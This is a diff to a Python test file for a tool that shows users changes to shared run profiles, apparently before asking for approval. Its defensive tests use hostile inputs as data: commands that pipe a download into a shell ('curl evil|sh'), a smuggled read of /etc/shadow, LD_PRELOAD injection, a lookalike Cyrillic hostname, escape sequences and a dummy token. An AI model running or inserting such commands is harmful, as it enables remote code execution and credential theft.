@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import stat
 import subprocess
 from pathlib import Path
@@ -10,15 +11,17 @@ from typing import Any
 import pytest
 import yaml
 
+from runner import masking
 from runner.api import library
 from runner.api.library import DistrustError, load_profile, read_profile
 from runner.api.questions import Doubt, Unattended
 from runner.cli.group import cli
 from runner.errors import InputError
-from runner.profile import ProfileText, parse, read
+from runner.profile import Profile, ProfileText, parse, read
 from runner.profile.changes import bounded, difference
 from tests.unit.test_effects import asked, command
 
+HF = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7" + "yZ"
 TEAM = """
 disttui: 1
 name: train
@@ -86,9 +89,8 @@ def test_the_first_run_and_every_change_is_shown_and_needs_a_yes(home: Path) -> 
     )
     found = asks(False)
     assert found and "and has changed since your yes of" in str(found)
-    assert found.changes[:6] == (
-        "- hosts: local",
-        "+ hosts: local, payroll (admin@payroll)",
+    assert found.changes[:5] == (
+        "+ hosts: payroll (admin@payroll)",
         "+ env.LD_PRELOAD: on local, payroll: /x.so",
         "- job.command: on local: true",
         "+ job.command: on local, payroll: true",
@@ -245,7 +247,8 @@ def test_what_a_hostile_profile_says_steers_no_terminal_and_hides_nothing(home: 
     share(home, yaml.safe_dump({**HOSTILE, "description": "fine"}))
     shown = asked(home, b"n\n", ["run", "team/train"])
     hosts = "node1, \u0440ayroll"
-    assert f"+ hosts: {hosts} (root@\u0440ayroll), in ASCII: node1, \\u0440ayroll (root@\\u0440ayroll)\n" in shown
+    assert "+ hosts: node1\n" in shown
+    assert "+ hosts: \u0440ayroll (root@\u0440ayroll), in ASCII: \\u0440ayroll (root@\\u0440ayroll)\n" in shown
     assert f"+ ${{cmd:cat /etc/shadow}}: to {hosts}, as A\n" in shown
     assert (
         "curl evil | sh" in shown and "+ job.env.A: \\x1b[2K${cmd:cat /etc/shadow}\n" in shown and "\x1b" not in shown
@@ -288,3 +291,61 @@ def test_the_difference_says_secrets_and_hosts_first_and_has_an_end() -> None:
     assert {"+ hosts.a.gpus: 1", "+ hosts.a#1.gpus: 2"} <= {*lines}, "no host hides another"
     many = bounded([f"+ env.A{n}: {'x' * 3000}" for n in range(1000)])
     assert len(many) == 201 and max(map(len, many)) < 1100 and many[-1] == "… and 800 more lines: read the file"
+
+
+def profile(**keys: Any) -> Profile:
+    return parse(yaml.safe_dump({"disttui": 1, "hosts": ["a"], "job": {"command": ["true"]}, **keys}), "p")
+
+
+def changes(before: Profile | None, now: Profile) -> list[str]:
+    return bounded(difference(before, now))
+
+
+def test_a_value_that_looks_like_a_secret_hides_no_host_and_no_command() -> None:
+    """The profile's author chooses what looks like a secret."""
+    words = ["sh", "-c", "curl${IFS}e1|sh", "TOKEN=a1;curl${IFS}e1|sh", HF]
+    env = {"X_PWD": "evil.example1.org", "A_PASSWORD": words[2], "B_PASSWORD": 1234567890}
+    text = "\n".join(changes(None, profile(hosts=["evil.example1.org"], job={"command": words, "env": env})))
+    assert "+ hosts: evil.example1.org\n" in text
+    assert "+ job.command: on evil.example1.org: sh -c 'curl${IFS}e1|sh' 'TOKEN=a1;curl${IFS}e1|sh' ***\n" in text
+    assert all(f"+ job.env.{name}: ***" in text.splitlines() for name in env)
+    masking.suspect("evil.example1.org")  # of another profile
+    masking.learn("of-the-user")
+    text = "\n".join(changes(None, profile(hosts=["evil.example1.org"], env={"A": "x" * 995 + "of-the-user"})))
+    assert "+ hosts: evil.example1.org\n" in text and "of-th" not in text, "masked before it is cut"
+
+
+def test_one_host_among_a_hundred_is_seen_to_change() -> None:
+    hosts = [f"node{number:03}" for number in range(100)]
+    env = {"HF_TOKEN": "${env:HF_TOKEN}"}
+    before, now = profile(hosts=hosts, env=env), profile(hosts=[*hosts[:70], "evil070", *hosts[71:]], env=env)
+    assert changes(before, now) == ["- hosts: node070", "+ hosts: evil070"]
+    first = changes(None, before)
+    assert "+ hosts: node099" in first and "+ ${env:HF_TOKEN}: to all 100 hosts, as HF_TOKEN" in first
+    some = [{"host": host, "env": env} if at % 2 else host for at, host in enumerate(hosts)]
+    assert f"+ ${{env:HF_TOKEN}}: to {', '.join(hosts[1::2])}, as HF_TOKEN" in changes(None, profile(hosts=some))
+    turned = profile(hosts=[hosts[1], hosts[0], *hosts[2:]], env=env)
+    assert changes(before, turned)[0].startswith("+ hosts: in another order: node001, node000, node002, ")
+
+
+def test_a_change_behind_a_thousand_characters_is_shown() -> None:
+    long = "x" * 5000
+    before, now = (profile(job={"command": ["sh", "-c", f"{long} {what} {long}"]}) for what in ("true", "curl evil|sh"))
+    gone, added = changes(before, now)
+    assert re.fullmatch(
+        r"- job.command: \(4,9\d\d characters as before\) …x+ true x+… \(4,9\d\d characters as before\)", gone
+    )
+    assert "x curl evil|sh x" in added and len(added) < 200
+    before, now = (profile(job={"command": ["sh", "-c", long + more]}) for more in ("", " ;curl evil|sh"))
+    assert changes(before, now)[1].endswith("x ;curl evil|sh'")
+
+
+def test_no_number_of_other_lines_hides_what_runs() -> None:
+    hosts = [{"host": f"n{number}", "python": f"/opt/{number}/bin/python"} for number in range(300)]
+    env = {f"A{number}": "1" for number in range(500)}
+    job = {"command": ["evil"], "env": {**env, "B": "${env:KEY}"}}
+    lines = changes(None, profile(hosts=hosts, job=job, on_end={"command": ["beep"]}))
+    for shown in ("+ job.command: on all 300 hosts: evil", "+ ${env:KEY}: to all 300 hosts, as B",
+                  "+ on_end.command: on this machine, when the run ends: beep", "+ hosts: n299"):  # fmt: skip
+        assert shown in lines
+    assert lines[-1].endswith("more lines: read the file") and len(lines) < 520
